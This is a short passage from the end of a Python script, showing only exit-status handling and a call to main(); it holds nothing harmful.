        sys.exit(2)
    sys.exit(1 if through else 0)


main()
